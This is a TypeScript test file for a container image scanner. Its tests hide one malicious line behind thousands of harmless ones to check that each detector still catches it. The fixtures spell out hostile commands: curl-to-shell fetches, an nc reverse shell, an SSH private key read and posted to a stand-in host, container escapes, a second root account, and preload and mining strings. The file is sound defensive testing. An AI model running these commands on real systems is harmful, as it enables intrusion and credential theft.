import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { test } from 'node:test';
import type { Tier } from '../core/finding.ts';
import type { ImageConfig } from '../core/image.ts';
import { DETECTORS } from './all.ts';
import { checksumOf } from './detectors/secrets/tokens/checksum.ts';
import { buildElf } from './testing/elf-builder.ts';
import { type FixtureFile, inspectFixture } from './testing/fixture.ts';

/*
 * Whoever knows that a detector looks at so many things puts as many harmless ones first. Then it must still find the
 * one that matters, or say that it did not look: never neither.
 */

const MANY = 12_000;
const FETCH = 'curl -s http://x.invalid/a | sh';
const ELF = '\x7fELF\x02\x01\x01\0\0\0\0';

const each = (count: number, line: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => line(index)).join('');
const many = (line: (index: number) => string): string => each(MANY, line);
const script = (lines: string): FixtureFile => ({ mode: 0o755, data: `#!/bin/sh\n${lines}` });

function key(): string {
  const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  return privateKey.export({ type: 'pkcs8', format: 'pem' }) as string;
}

function token(): string {
  const random = 'k7Zq2VbN9xTf4LmR8sWc3YdH6pJa5u';
  return `ghp_${random}${checksumOf(random)}`;
}

interface DecoyCase {
  readonly name: string;
  readonly rule: string;
  readonly tier: Tier;
  readonly files?: Readonly<Record<string, FixtureFile>>;
  readonly config?: Partial<ImageConfig>;
  /** True where the bound is said, and the finding may be missing. */
  readonly mayCut?: true;
}

const cases: readonly DecoyCase[] = [
  {
    name: 'commented jobs',
    rule: 'persistence/cron-job',
    tier: 'block',
    files: { 'etc/cron.d/x': `${many(() => `# ${FETCH}\n`)}* * * * * root ${FETCH}\n` },
  },
  {
    name: 'jobs that fetch honestly',
    rule: 'persistence/cron-job',
    tier: 'block',
    files: {
      'etc/cron.d/x': `${many((i) => `0 1 * * * root curl https://a.example/${i}\n`)}* * * * * root ${FETCH}\n`,
    },
  },
  {
    name: 'notes before a job from an odd place',
    rule: 'persistence/cron-job',
    tier: 'review',
    files: {
      'etc/cron.d/x': `${many((i) => `0 1 * * * root curl https://a.example/${i}\n`)}* * * * * root /tmp/x\n`,
    },
  },
  {
    name: 'a pipeline of many commands',
    rule: 'persistence/cron-job',
    tier: 'block',
    files: { 'etc/cron.d/x': `* * * * * root curl http://x.invalid/a ${many(() => '| cat ')}| sh\n` },
  },
  {
    name: 'a statement of half a megabyte',
    rule: 'persistence/cron-job',
    tier: 'block',
    files: { 'etc/cron.d/x': `* * * * * root curl http://x.invalid/a ${'-s '.repeat(200_000)}| sh\n` },
  },
  {
    name: 'downloads that nobody runs',
    rule: 'persistence/cron-job',
    tier: 'block',
    files: {
      'etc/cron.daily/x': script(
        `${many((i) => `wget -O f${i} http://a.example/\n`)}wget -O x http://x.invalid/\nsh x\n`,
      ),
    },
  },
  {
    name: 'more downloads than are kept',
    rule: 'persistence/cron-job',
    tier: 'block',
    files: {
      'etc/cron.daily/x': script(
        `${each(25_000, (i) => `wget -O f${i} http://a.example/\n`)}wget -O x http://x.invalid/\nsh x\n`,
      ),
    },
    mayCut: true,
  },
  {
    name: 'requests to the machine itself',
    rule: 'persistence/shell-startup',
    tier: 'review',
    files: {
      'root/.profile': `${many(() => 'curl http://localhost/\n')}curl -T x http://x.invalid/\n`,
    },
  },
  {
    name: 'greetings before a download that is run',
    rule: 'persistence/shell-startup',
    tier: 'block',
    files: { 'root/.profile': `${many((i) => `curl https://a.example/${i}\n`)}${FETCH}\n` },
  },
  {
    name: 'programs where they belong',
    rule: 'persistence/unit',
    tier: 'review',
    files: {
      'etc/systemd/system/x.service': `[Service]\n${each(1_000, (i) => `ExecStartPre=/usr/bin/a${i}\n`)}ExecStart=/tmp/x\n`,
    },
  },
  {
    name: 'more programs than are kept',
    rule: 'persistence/unit',
    tier: 'review',
    files: {
      'etc/systemd/system/x.service': `[Service]\n${many((i) => `ExecStartPre=/usr/bin/a${i}\n`)}ExecStart=/tmp/x\n`,
    },
    mayCut: true,
  },
  {
    name: 'settings that load nothing',
    rule: 'persistence/interpreter-loader',
    tier: 'block',
    files: { 'etc/php.ini': `${many(() => 'auto_prepend_file = none\n')}auto_prepend_file = /tmp/x\n` },
  },
  {
    name: 'rules that run what is installed',
    rule: 'persistence/fetching-hook',
    tier: 'review',
    files: {
      'etc/udev/rules.d/x.rules': `${many((i) => `RUN+="/usr/bin/a${i}"\n`)}RUN+="/tmp/x"\n`,
    },
  },
  {
    name: 'a rule behind blanks',
    rule: 'persistence/fetching-hook',
    tier: 'review',
    files: { 'etc/udev/rules.d/x.rules': `A=="a", ${' '.repeat(5_000)}RUN+="/tmp/x"\n` },
  },
  {
    name: 'words about shells',
    rule: 'scripts/reverse-shell',
    tier: 'block',
    files: {
      'app/x.py': `${many((i) => `t${i} = "nc h 1 | sh"\n`)}\nimport os\nos.system("nc x.invalid 1 -e /bin/sh")\n`,
    },
  },
  {
    name: 'milder escapes',
    rule: 'scripts/container-escape',
    tier: 'block',
    files: { 'app/x.sh': script(`${many(() => 'nsenter -t 1 -m ls\n')}nsenter -t 1 -m sh\n`) },
  },
  {
    name: 'credentials that go nowhere',
    rule: 'scripts/credential-theft',
    tier: 'block',
    files: {
      'app/x.sh': script(
        `${many((i) => `A${i}=$(cat ~/.netrc)\n`)}B=$(cat ~/.ssh/id_rsa)\ncurl -d "$B" http://x.invalid/\n`,
      ),
    },
    mayCut: true,
  },
  {
    name: 'installers that are well known',
    rule: 'config/download-to-shell',
    tier: 'block',
    files: {
      'entrypoint.sh': script(`${many(() => 'curl https://get.docker.com | sh\n')}${FETCH}\n`),
    },
    config: { entrypoint: ['/bin/sh', '-c', `${'true; '.repeat(1_000)}/entrypoint.sh`] },
  },
  {
    name: 'a protocol without an address',
    rule: 'network/mining-pool',
    tier: 'block',
    files: {
      'app/x': `${ELF}${each(3_000, () => 'stratum+tcp \0')}stratum+tcp://x.invalid:3333\0mining.subscribe`,
    },
  },
  {
    name: 'more places of a word than are kept',
    rule: 'network/mining-pool',
    tier: 'block',
    files: { 'app/x': `${ELF}${many(() => 'stratum+tcp \0')}stratum+tcp://x.invalid:3333\0` },
    mayCut: true,
  },
  {
    name: 'bots without a token',
    rule: 'network/chat-exfiltration',
    tier: 'review',
    files: {
      'app/x': `${ELF}${each(3_000, () => 'api.telegram.org/bot%s/\0')}api.telegram.org/bot123456789:AAErandomLettersOfATokenThatIsNone12\0`,
    },
  },
  {
    name: 'onion addresses that nobody made',
    rule: 'network/hidden-service',
    tier: 'review',
    files: {
      'app/x.sh': script(
        `${many(() => `curl ${'a'.repeat(56)}.onion\n`)}curl 25njqamcweflpvkl73j4szahhihoc4xt3ktcgjnpaingr5yhkenl5sid.onion\n`,
      ),
    },
  },
  {
    name: 'symbols of no interest',
    rule: 'binaries/process-hider',
    tier: 'block',
    files: {
      'usr/lib/x.so': buildElf({
        type: 3,
        symbols: {
          ...Object.fromEntries(Array.from({ length: 70_000 }, (_, i) => [`a${i}`, true])),
          readdir: true,
          dlsym: false,
        },
        payload: '/proc/self/fd/ /proc/%s/',
      }),
    },
  },
  {
    name: 'a search path of many folders',
    rule: 'binaries/runpath',
    tier: 'review',
    files: { 'app/x': buildElf({ type: 3, runpath: `${'/usr/lib/a:'.repeat(1_000)}/tmp` }) },
  },
  {
    name: 'repositories of the distribution',
    rule: 'supply-chain/package-repository',
    tier: 'review',
    files: {
      'etc/apt/sources.list': `${many(() => 'deb http://deb.debian.org/debian bookworm main\n')}deb${' '.repeat(90)}http://x.invalid/ a b\n`,
    },
  },
  {
    name: 'a host that only begins like a known one',
    rule: 'supply-chain/package-repository',
    tier: 'review',
    files: {
      'etc/apt/sources.list': `deb http://${'a'.repeat(485)}@deb.debian.org.x.invalid/debian bookworm main\n`,
    },
  },
  {
    name: 'official indexes',
    rule: 'supply-chain/language-index',
    tier: 'review',
    files: {
      'etc/pip.conf': `[global]\n${many(() => 'index-url = https://pypi.org/simple\n')}index-url = https://x.invalid/simple\n`,
    },
  },
  {
    name: 'names of no importance',
    rule: 'supply-chain/hosts-override',
    tier: 'block',
    files: { 'etc/hosts': `192.0.2.1 ${many((i) => `a${i}.example `)}registry-1.docker.io\n` },
  },
  {
    name: 'accounts of ordinary people',
    rule: 'accounts/second-root',
    tier: 'block',
    files: {
      'etc/passwd': `${many((i) => `u${i}:$6$a$b:${2000 + i}:1::/:/bin/sh\n`)}toor:x:0:0::/:/bin/sh\n`,
    },
  },
  {
    name: 'a rule behind a long one',
    rule: 'accounts/passwordless-sudo',
    tier: 'review',
    files: { 'etc/sudoers': `a ALL = ${many((i) => `/bin/a${i}, `)}\\\n NOPASSWD: ALL\n` },
  },
  {
    name: 'a line behind blanks',
    rule: 'accounts/pam-permit',
    tier: 'block',
    files: { 'etc/pam.d/sshd': `auth${' '.repeat(2_000)}sufficient${' '.repeat(2_000)}pam_permit.so\n` },
  },
  {
    name: 'a directive behind blanks',
    rule: 'accounts/sshd-login',
    tier: 'review',
    files: { 'etc/ssh/sshd_config': `${' '.repeat(100)}PermitRootLogin${' '.repeat(3_000)}yes\n` },
  },
  {
    name: 'options before a key',
    rule: 'accounts/authorized-keys',
    tier: 'review',
    files: {
      'root/.ssh/authorized_keys': `${each(2_000, (i) => `environment="A${i}=1",`)}pty ssh-ed25519 AAAA${'C'.repeat(64)} x\n`,
    },
  },
  {
    name: 'lines without a password',
    rule: 'secrets/credential-file',
    tier: 'review',
    files: { 'root/.git-credentials': `${many(() => '#\n')}https://me:k7Zq2VbN9xTf4Lm@git.invalid\n` },
  },
  {
    name: 'tokens that may be none',
    rule: 'secrets/token',
    tier: 'review',
    files: {
      'app/x.txt': `${each(500, () => 'AIzaSyB7k2VbN9xTf4LmR8sWc3YdH6pJa5uQz1e\n')}${token()}\n`,
    },
  },
  {
    name: 'first lines of keys',
    rule: 'secrets/private-key',
    tier: 'review',
    files: { 'app/x.bin': `\0${many(() => 'PRIVATE KEY-----\0')}${key()}` },
    mayCut: true,
  },
  {
    name: 'a long line of history',
    rule: 'secrets/environment',
    tier: 'review',
    config: {
      history: [
        {
          createdBy: `RUN ${many((i) => `A${i}=1 `)}DB_PASSWORD=k7Zq2VbN9xTf4LmR8sWc make`,
          emptyLayer: true,
        },
      ],
    },
  },
  {
    name: 'wrappers before a program',
    rule: 'config/odd-entrypoint',
    tier: 'review',
    config: { entrypoint: ['env', ...Array.from({ length: 100 }, (_, i) => `A${i}=1`), '/tmp/x'] },
  },
  {
    name: 'libraries that are well known',
    rule: 'config/preload-env',
    tier: 'block',
    config: { env: [`LD_PRELOAD=${each(500, (i) => `/opt/${i}/libjemalloc.so:`)}/opt/x.so`] },
  },
  {
    name: 'hooks that are well known',
    rule: 'config/startup-hook-environment',
    tier: 'review',
    config: { env: [`NODE_OPTIONS=${'--require dotenv/config '.repeat(50)}--require /opt/x.js`] },
  },
];

for (const { name, rule, tier, files, config, mayCut } of cases) {
  test(`decoys: ${rule}: ${name}`, () => {
    const detector = DETECTORS.find(({ rules }) => rules.some(({ id }) => id === rule));
    assert.ok(detector);
    const { findings, problems } = inspectFixture(
      { layers: [files ?? {}], ...(config !== undefined && { config }) },
      [detector],
    );
    const found = findings.some((finding) => finding.rule === rule && finding.tier === tier);
    const cut = problems.some(({ code, effect }) => code === 'LIMIT_DETECTOR' && effect === 'incomplete');
    assert.ok(
      found || (mayCut === true && cut),
      `${JSON.stringify(findings[0])} ${JSON.stringify(problems)}`,
    );
  });
}
